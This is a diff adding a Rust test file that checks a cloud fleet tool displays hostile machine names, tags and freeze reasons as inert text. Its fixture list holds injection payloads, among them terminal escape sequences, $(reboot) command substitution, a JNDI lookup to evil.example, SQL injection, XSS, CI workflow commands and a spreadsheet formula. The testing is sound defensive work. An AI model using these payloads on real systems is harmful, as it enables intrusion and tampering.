@@ -1,0 +1,189 @@
+//! What people call their machines: shown as it is where that is harmless, and never obeyed.
+
+use crate::desk::{Desk, is_tame};
+
+/// Names that a console takes, or that somebody forges.
+const NAMES: &[&str] = &[
+    "../../etc/passwd",
+    "/dev/null",
+    "C:\\nul",
+    "-rf",
+    "--auto-approve",
+    "a\u{0}b",
+    "a\tb",
+    "a\nb",
+    "a\r\nPlan: 0 to add, 0 to change, 0 to destroy.",
+    "a\u{8}\u{8}\u{8}z",
+    "\u{7}",
+    "\u{1b}[2J\u{1b}[H",
+    "\u{1b}[31mred",
+    "\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
+    "\u{1b}]52;c;cm0gLXJm\u{7}",
+    "\u{1b}[1A\u{1b}[2K",
+    "\u{9b}31m",
+    "\u{85}x",
+    "\u{ad}soft",
+    "\u{202e}drowssap",
+    "\u{2066}abc\u{2069}",
+    "\u{200b}\u{200c}\u{200d}",
+    "\u{feff}bom",
+    "\u{2028}line",
+    "e\u{301}\u{301}\u{301}\u{301}\u{301}",
+    "\u{1f469}\u{200d}\u{1f4bb}",
+    "\u{05e9}\u{05dc}\u{05d5}\u{05dd}",
+    "主机",
+    "\u{fdfd}",
+    "`id`",
+    "$(reboot)",
+    "${jndi:ldap://evil.example/a}",
+    "'; drop table machines; --",
+    "a|b|c",
+    "</details>",
+    "<!-- hidden -->",
+    "<img src=x onerror=alert(1)>",
+    "<script>",
+    "@everyone",
+    "@org/team",
+    "#1",
+    "GH-1",
+    "![x](http://evil.example/x.png)",
+    "[x](javascript:alert(1))",
+    "http://evil.example",
+    "www.evil.example",
+    "```\nfence",
+    "~~~",
+    "> quote",
+    "# heading",
+    "* list",
+    "| - |",
+    "\\",
+    "::set-output name=x::y",
+    "::error file=a::b",
+    "##[error]x",
+    "%0A::warning::x",
+    "=cmd|' /C calc'!A0",
+    "+1",
+    "null",
+    "~",
+    "yes",
+    "1e999",
+    "  padded  ",
+];
+
+/// As YAML writes it in quotes, whatever it holds.
+fn quoted(name: &str) -> String {
+    let escaped: Vec<String> = name
+        .chars()
+        .map(|c| match c {
+            'a'..='z' | 'A'..='Z' | '0'..='9' => c.to_string(),
+            _ => format!("\\U{:08x}", u32::from(c)),
+        })
+        .collect();
+    format!("\"{}\"", escaped.concat())
+}
+
+fn scenario(name: &str) -> String {
+    let quoted = quoted(name);
+    format!(
+        "instances:\n\
+         - {{InstanceId: i-1, InstanceName: {quoted}, InstanceType: ecs.g7.large,\n   \
+         Tags: {{Tag: [{{TagKey: {quoted}, TagValue: {quoted}}}]}}}}\n"
+    )
+}
+
+const MANIFEST: &str = "version: 1\nfleet: shop\nregion: cn-hangzhou\n\
+    instances:\n  web: {id: i-1, spec: {instance_type: ecs.g7.xlarge}}\n";
+
+const SIMULATE: [&str; 2] = ["--simulate", "fleet.cloud.yaml"];
+
+/// Machines of one fleet: so few that a whole apply stays within the limits.
+const FLEET_SIZE: usize = 16;
+
+/// A fleet of machines that each have one of the names.
+fn fleet(names: &[&str]) -> (String, String) {
+    let machines = names.iter().enumerate().map(|(n, name)| {
+        let name = quoted(name);
+        let tags = format!("Tags: {{Tag: [{{TagKey: {name}, TagValue: {name}}}]}}");
+        format!(
+            "- {{InstanceId: i-{n}, InstanceName: {name}, InstanceType: ecs.g7.large, {tags}}}\n"
+        )
+    });
+    let ids: Vec<String> = (0..names.len()).map(|n| format!("i-{n}")).collect();
+    let manifest = format!(
+        "version: 1\nfleet: shop\nregion: cn-hangzhou\ngroups:\n  web:\n    ids: [{}]\n    \
+         rollout: {{max_unavailable: 100%}}\n    spec: {{instance_type: ecs.g7.xlarge}}\n",
+        ids.join(", ")
+    );
+    (
+        manifest,
+        format!("instances:\n{}", machines.collect::<String>()),
+    )
+}
+
+#[test]
+fn a_name_is_text_and_never_a_command() {
+    let desk = Desk::new("names");
+    for names in NAMES.chunks(FLEET_SIZE) {
+        let (manifest, cloud) = fleet(names);
+        desk.put("fleet.yaml", manifest);
+        desk.put("fleet.cloud.yaml", cloud);
+        only_text(&desk);
+    }
+}
+
+fn only_text(desk: &Desk) {
+    for args in [
+        &["plan"][..],
+        &["plan", "-verbose"],
+        &["plan", "--format", "markdown"],
+        &["plan", "-json"],
+        &["apply", "-auto-approve", "-json"],
+        &["history"],
+        &["state", "list"],
+    ] {
+        let said = desk.run(&[args, &SIMULATE].concat(), &[]);
+        assert_eq!(said.code, Some(0), "{args:?}: {}", said.stderr);
+        let text = format!("{}{}", said.stdout, said.stderr);
+        assert!(is_tame(&text), "{args:?}: {text:?}");
+        let is_command = |line: &&str| line.starts_with("::") || line.starts_with("##[");
+        assert_eq!(text.lines().find(is_command), None, "{args:?}");
+    }
+}
+
+/// What an author gives as the reason of a freeze is shown to whoever reviews the plan.
+#[test]
+fn a_reason_cannot_leave_the_line_it_is_shown_in() {
+    let desk = Desk::new("reasons");
+    let mut manifest = MANIFEST.to_owned() + "freezes:\n";
+    for name in NAMES {
+        let reason = quoted(name);
+        let day = "from: 2026-01-02, to: 2026-01-03, time_zone: Asia/Shanghai";
+        manifest += &format!("  - {{{day}, reason: {reason}}}\n");
+    }
+    desk.put("fleet.yaml", manifest);
+    desk.put("fleet.cloud.yaml", scenario("web-1"));
+    let said = desk.run(
+        &[&["plan", "--format", "markdown"][..], &SIMULATE].concat(),
+        &[],
+    );
+    assert_eq!(said.code, Some(0), "{}", said.stderr);
+    assert!(is_tame(&said.stdout), "{:?}", said.stdout);
+    assert!(
+        said.stdout.contains("shalom") || said.stdout.contains("主机"),
+        "{}",
+        said.stdout
+    );
+    for wild in [
+        "<img",
+        "<script",
+        "<!-- hidden",
+        "[x](",
+        "@everyone",
+        "@org",
+        "</details>\n<",
+    ] {
+        assert!(!said.stdout.contains(wild), "{wild}: {}", said.stdout);
+    }
+    let plain = desk.run(&[&["plan"][..], &SIMULATE].concat(), &[]);
+    assert!(is_tame(&plain.stdout), "{:?}", plain.stdout);
+}
